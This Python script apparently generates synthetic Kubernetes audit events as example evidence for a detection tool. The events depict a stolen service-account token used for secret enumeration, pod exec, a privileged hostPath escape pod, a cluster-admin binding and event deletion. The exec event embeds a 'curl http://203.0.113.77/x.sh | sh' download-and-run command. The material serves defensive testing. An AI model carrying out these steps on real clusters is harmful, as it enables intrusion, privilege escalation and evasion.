"""Write the bundled example evidence (a small, synthetic attack told in native audit events).

Run ``python examples/make_examples.py`` to regenerate ``examples/audit/native-attack.jsonl``;
the file is committed so that the Quickstart needs nothing else. The story: a web pod's
service-account token is stolen and used from outside the cluster to enumerate secrets,
exec into a pod, start a privileged hostPath pod, bind cluster-admin, and delete events.
"""

from __future__ import annotations

import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

T0 = datetime(2026, 11, 20, 9, 14, 2, tzinfo=UTC)
SA = "system:serviceaccount:shop:web"
SA_EXTRA = {
    "authentication.kubernetes.io/credential-id": ["JTI=7d1c5e0a-2b9f-4c1e-9a57-0c7f5b3e2a11"],
    "authentication.kubernetes.io/node-name": ["ip-10-0-3-17.ec2.internal"],
    "authentication.kubernetes.io/pod-name": ["web-7c9f8d6b5-x2lqp"],
    "authentication.kubernetes.io/pod-uid": ["3b5e2c1a-9f1d-4c4e-8f6a-2d7b1e0c9a44"],
}
ATTACKER_IP = "203.0.113.77"
_n = 0


def ts(seconds: float) -> str:
    return (T0 + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def event(
    at: float,
    verb: str,
    uri: str,
    obj: dict[str, str] | None,
    *,
    user: str = SA,
    code: int = 200,
    stage: str = "ResponseComplete",
    ip: str = ATTACKER_IP,
    agent: str = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
    request: dict[str, object] | None = None,
    decision: str = "allow",
) -> dict[str, object]:
    global _n
    _n += 1
    ev: dict[str, object] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse" if request else "Metadata",
        "auditID": str(uuid.UUID(int=_n)),
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": {
            "username": user,
            "uid": "9d0f3c2e-1b6a-4f8e-a1c5-7e2d4b6f8a90",
            "groups": ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"],
            "extra": SA_EXTRA if user == SA else {},
        },
        "sourceIPs": [ip],
        "userAgent": agent,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts(at),
        "stageTimestamp": ts(at + 0.004),
        "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""},
    }
    if obj is not None:
        ev["objectRef"] = obj
    if request is not None:
        ev["requestObject"] = request
    return ev


def exec_uri(ns: str, pod: str, command: list[str], container: str) -> str:
    q = "&".join(f"command={quote(c, safe='')}" for c in command)
    return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container={container}&stdin=true&stdout=true&tty=true"


def story() -> list[dict[str, object]]:
    evs = [
        # Background noise: the kubelet and a controller doing their jobs.
        event(0, "get", "/api/v1/nodes/ip-10-0-3-17.ec2.internal", {"resource": "nodes", "name": "ip-10-0-3-17.ec2.internal", "apiVersion": "v1"},
              user="system:node:ip-10-0-3-17.ec2.internal", ip="10.0.3.17", agent="kubelet/v1.31.2"),
        # Discovery with the stolen token, from outside the cluster.
        event(60, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201),
        event(61, "list", "/api/v1/namespaces/shop/secrets", {"resource": "secrets", "namespace": "shop", "apiVersion": "v1"}),
        event(62, "list", "/api/v1/secrets", {"resource": "secrets", "apiVersion": "v1"}, code=403, decision="forbid"),
        event(63, "get", "/api/v1/namespaces/shop/secrets/db-credentials", {"resource": "secrets", "namespace": "shop", "name": "db-credentials", "apiVersion": "v1"}),
        # Exec into the payment pod (kubectl >= 1.30 logs the WebSocket exec as verb get).
        event(120, "get", exec_uri("shop", "payments-5d8f7b9c4-kq2rz", ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"], "app"),
              {"resource": "pods", "namespace": "shop", "name": "payments-5d8f7b9c4-kq2rz", "subresource": "exec", "apiVersion": "v1"},
              code=101, stage="ResponseStarted"),
        # A privileged pod with the node's filesystem mounted: an escape to the node.
        event(180, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": "debug-tools", "apiVersion": "v1"}, code=201,
              request={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug-tools", "namespace": "shop"},
                       "spec": {"hostPID": True, "hostNetwork": True,
                                "containers": [{"name": "x", "image": "docker.io/library/alpine:3.20", "command": ["sleep", "infinity"],
                                                "securityContext": {"privileged": True}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                                "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}),
        # Persistence: bind cluster-admin to the stolen service account.
        event(240, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"resource": "clusterrolebindings", "name": "web-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}, code=201,
              request={"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "web-admin"},
                       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                       "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]}),
        # Defence evasion: delete the events that describe the new pod.
        event(300, "delete", "/api/v1/namespaces/shop/events/debug-tools.17f1a2b3c4d5e6f7", {"resource": "events", "namespace": "shop", "name": "debug-tools.17f1a2b3c4d5e6f7", "apiVersion": "v1"}),
    ]
    return evs


def main() -> None:
    out = Path(__file__).with_name("audit") / "native-attack.jsonl"
    out.parent.mkdir(exist_ok=True)
    with out.open("w") as fh:
        for ev in story():
            fh.write(json.dumps(ev, separators=(",", ":")) + "\n")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
